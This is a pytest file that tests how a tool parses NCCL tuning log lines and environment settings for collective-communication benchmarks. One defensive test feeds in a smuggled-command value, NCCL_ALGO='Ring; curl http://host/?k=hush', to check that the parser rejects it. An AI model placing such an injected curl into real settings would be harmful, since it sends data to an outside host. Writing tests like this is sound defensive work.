"""What settings ask for, and what NCCL's log says it did."""

import pytest

from dynamiccl.collect.nccl_tests.settings import KEPT_NAMES, requested_by, settings_in
from dynamiccl.collect.nccl_tests.tuning import Choice, TuningLog
from dynamiccl.nccl import Algorithm, Collective, Protocol

TREE_LL = (Algorithm.Tree, Protocol.LL)
RING_SIMPLE = (Algorithm.Ring, Protocol.Simple)


def log(*lines: str) -> TuningLog:
    found = TuningLog()
    for line in lines:
        found.add(f"n1:1:1 [0] NCCL INFO {line}")
    return found


@pytest.mark.parametrize(
    ("line", "size", "choice"),
    [
        ("65536 Bytes -> Algo 1 proto 2 time 37.798233", 65536, Choice(*RING_SIMPLE, None)),
        (
            "AllReduce: 64 Bytes -> Algo 0 proto 0 time 3.1",
            64,
            Choice(Algorithm.Tree, Protocol.LL, None),
        ),
        (
            "AllReduce: 64 Bytes -> Algo RING proto SIMPLE channel{Lo..Hi}={2..5}",
            64,
            Choice(*RING_SIMPLE, 4),
        ),
        (
            "AllReduce: 64 Bytes -> Algo NVLS_TREE proto SIMPLE channel{Lo..Hi}={0..15} "
            "cgaClusterSize 4",
            64,
            Choice(Algorithm.NVLSTree, Protocol.Simple, 16),
        ),
    ],
)
def test_line_of_each_release(line: str, size: int, choice: Choice) -> None:
    agreed, disagreeing = log(line).resolve(Collective.AllReduce, 8)
    assert (agreed, disagreeing) == ({size: choice}, [])


def test_all_gather_is_logged_per_rank_from_2_24_on() -> None:
    new = log("AllGather: 1024 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..0}")
    old = log("AllGather: 1024 Bytes -> Algo 1 proto 0 time 1.0")
    assert list(new.resolve(Collective.AllGather, 4)[0]) == [4096]
    assert list(old.resolve(Collective.AllGather, 4)[0]) == [1024]
    assert new.resolve(Collective.AllGather, None) == ({}, [])


def test_lines_that_disagree_say_nothing() -> None:
    both = log(
        "AllReduce: 64 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..0}",
        "AllReduce: 64 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..1}",
    )
    assert both.resolve(Collective.AllReduce, 2) == ({}, [64])


def test_other_kernels_are_no_config() -> None:
    other = log(
        "AllReduce [Symmetric]: 64 Bytes -> Kernel AllReduce_AGxLL_R nchannels 8 nthreads 512",
        "AllReduce: 128 Bytes -> Algo MAGIC proto LL channel{Lo..Hi}={0..0}",
    )
    assert other.resolve(Collective.AllReduce, 2) == ({}, [64, 128])


@pytest.mark.parametrize(
    "line", ["64 Bytes -> ", "Magic: 64 Bytes -> Algo RING proto LL channel{Lo..Hi}={0..0}", "x"]
)
def test_other_lines_are_not_taken(line: str) -> None:
    assert not TuningLog().add(line)


@pytest.mark.parametrize(
    ("settings", "wanted"),
    [
        ({}, (None, None, None, "default")),
        ({"NCCL_ALGO": "RING"}, ("Ring", None, None, "default")),
        ({"NCCL_ALGO": "Ring,Tree"}, (None, None, None, "algo=Ring,Tree")),
        ({"NCCL_ALGO": "allgather:pat"}, (None, None, None, "default")),
        ({"NCCL_PROTO": "^LL128"}, (None, None, None, "proto=^LL128")),
        ({"NCCL_MIN_CTAS": "8", "NCCL_MAX_CTAS": "8"}, (None, None, 8, "default")),
        ({"NCCL_MIN_NCHANNELS": "4", "NCCL_MAX_NCHANNELS": "4"}, (None, None, 4, "default")),
        ({"NCCL_MAX_CTAS": "8"}, (None, None, None, "max_ctas=8")),
        (
            {"NCCL_SHM_DISABLE": "1", "NCCL_P2P_DISABLE": "1"},
            (None, None, None, "p2p_disable=1,shm_disable=1"),
        ),
    ],
)
def test_settings_are_a_request_or_a_profile(
    settings: dict[str, str], wanted: tuple[str | None, str | None, int | None, str]
) -> None:
    found = requested_by(settings, Collective.AllReduce)
    assert (
        found.algorithm,
        found.protocol,
        found.num_channels,
        found.launch_profile,
    ) == wanted
    assert found.is_default == (wanted[:3] == (None, None, None))


@pytest.mark.parametrize(
    "line",
    [
        "export NCCL_SECRET=hush",
        "NCCL_ALGO_TOKEN=hush",
        "NCCL_ALGO='Ring; curl http://host/?k=hush'",
        "NCCL INFO NCCL_DEBUG_FILE set by environment to /home/alice/hush",
    ],
)
def test_only_listed_names_with_plain_values_are_kept(line: str) -> None:
    assert settings_in(line) == {}


def test_kept_names_are_literal() -> None:
    assert all(name.startswith("NCCL_") and name.isupper() for name in KEPT_NAMES)
    assert not any(word in name for name in KEPT_NAMES for word in ("FILE", "HOSTID", "IFNAME"))
